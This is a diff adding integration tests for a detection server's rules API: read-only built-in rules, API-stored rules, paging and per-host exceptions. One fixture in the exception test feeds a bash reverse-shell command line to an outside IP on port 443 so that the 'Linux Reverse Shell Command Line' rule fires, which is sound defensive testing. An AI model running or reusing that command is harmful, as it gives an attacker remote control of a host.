@@ -151,6 +151,97 @@ class BuiltinRulesTest(ServerTestCase):
         for title in ("SSH Failed Password", "SSH Successful Login", "SSH Brute Force Stage"):
             self.assertEqual(self.alerts(ids[title]), [], title)
 
+    # ---- the built-in rules in the rules API (read-only entries) ----
+
+    def rules(self, query=""):
+        r = self.server.request("GET", "/api/v1/rules" + query, token=self.token)
+        self.assertEqual(r.status, 200, r)
+        return r.json()
+
+    def test_rules_list_shows_builtin_read_only(self):
+        ids, n = rule_ids()
+        lst = self.rules("?source=builtin&limit=1000")
+        self.assertEqual(lst["total"], n)
+        self.assertEqual(len(lst["rules"]), n)
+        by_title = {x["title"]: x for x in lst["rules"]}
+        rs = by_title["Linux Reverse Shell Command Line"]
+        self.assertEqual(rs["id"], ids["Linux Reverse Shell Command Line"])
+        self.assertEqual(rs["source"], "builtin")
+        self.assertIsNone(rs["tenant"])
+        self.assertTrue(rs["file"].startswith("endpoint/") and rs["file"].endswith(".yml"), rs)
+        self.assertTrue(rs["enabled"] and rs["loaded"])
+        self.assertEqual(rs["level"], "high")
+        self.assertTrue(any(t.startswith("attack.t") for t in rs["tags"]), rs)
+        # a rule stored through the API is listed first; the filter keeps one kind
+        yaml = ("title: IT api rule\nid: it-api-rule-%s\nlevel: low\nlogsource: {product: linux}\n"
+                "detection:\n  sel:\n    CommandLine|contains: it-api-marker\n  condition: sel\n"
+                % uuid.uuid4().hex[:8])
+        r = self.server.request("POST", "/api/v1/rules", yaml, token=self.token,
+                                headers={"Content-Type": "application/yaml"})
+        self.assertEqual(r.status, 201, r)
+        api_id = r.json()["id"]
+        api_only = self.rules("?source=api")["rules"]
+        self.assertEqual([x["id"] for x in api_only], [api_id])
+        self.assertEqual(api_only[0]["source"], "api")
+        both = self.rules("?limit=1000")
+        self.assertEqual(both["total"], n + 1)
+        self.assertEqual(both["rules"][0]["id"], api_id)
+        # paging runs across both kinds, without gaps or repeats
+        seen = []
+        for off in range(0, n + 1, 7):
+            page = self.rules("?limit=7&offset=%d" % off)
+            self.assertEqual(page["total"], n + 1)
+            seen += [x["id"] + "|" + x["source"] for x in page["rules"]]
+        self.assertEqual(seen, [x["id"] + "|" + x["source"] for x in both["rules"]])
+        self.assertEqual(self.server.request("GET", "/api/v1/rules?source=nope", token=self.token).status, 400)
+        # one rule by id
+        r = self.server.request("GET", "/api/v1/rules/" + rs["id"], token=self.token)
+        self.assertEqual(r.status, 200, r)
+        self.assertEqual((r.json()["source"], r.json()["file"]), ("builtin", rs["file"]))
+        self.assertEqual(self.server.request("GET", "/api/v1/rules/" + api_id, token=self.token).json()["source"], "api")
+        self.assertEqual(self.server.request("GET", "/api/v1/rules/no-such-rule", token=self.token).status, 404)
+        # writes to a built-in rule are refused; a missing rule stays 404
+        r = self.server.request("PATCH", "/api/v1/rules/" + rs["id"], {"enabled": False}, token=self.token)
+        self.assertEqual(r.status, 409, r)
+        self.assertIn("read-only", r.json()["error"])
+        self.assertEqual(self.server.request("DELETE", "/api/v1/rules/" + rs["id"], token=self.token).status, 409)
+        self.assertEqual(self.server.request("PATCH", "/api/v1/rules/no-such-rule", {"enabled": False},
+                                             token=self.token).status, 404)
+        self.assertEqual(self.server.request("DELETE", "/api/v1/rules/" + api_id, token=self.token).status, 200)
+
+    def test_exception_on_builtin_rule(self):
+        ids, _ = rule_ids()
+        rid = ids["Linux Reverse Shell Command Line"]
+        tag = uuid.uuid4().hex[:8]
+        r = self.server.request("POST", "/api/v1/rules/%s/exceptions" % rid,
+                                {"conditions": {"host.name": "srv-exc-" + tag}, "reason": "lab host"},
+                                token=self.token)
+        self.assertEqual(r.status, 201, r)
+
+        def shell(host):
+            return {"@timestamp": datetime.datetime.now(datetime.timezone.utc).isoformat(),
+                    "agent": {"id": "it-agent-" + host}, "host": {"name": host},
+                    "event": {"id": "ev-" + uuid.uuid4().hex, "category": "process", "type": "start",
+                              "action": "exec"},
+                    "process": {"executable": "/usr/bin/bash", "pid": 4343,
+                                "command_line": "bash -c 'bash -i >& /dev/tcp/91.240.118.172/443 0>&1'"},
+                    "user": {"name": "root"}}
+
+        # the excepted host first, then another one in a later batch: once the other's alert is
+        # there, the excepted event has been evaluated
+        self.assertEqual(self.server.ingest(self.token, [shell("srv-exc-" + tag)]).status, 200)
+        self.assertEqual(self.server.ingest(self.token, [shell("srv-other-" + tag)]).status, 200)
+        deadline = time.time() + 30
+        while time.time() < deadline:
+            got = self.alerts(rid + "&host=srv-other-" + tag)
+            if got:
+                break
+            time.sleep(0.2)
+        self.assertTrue(got, "no alert for the host without an exception")
+        self.assertEqual(self.alerts(rid + "&host=srv-exc-" + tag), [])
+        lst = self.server.request("GET", "/api/v1/rules/%s/exceptions" % rid, token=self.token).json()
+        self.assertEqual(lst["hits"], 1, lst)
+
 
 if __name__ == "__main__":
     unittest.main()
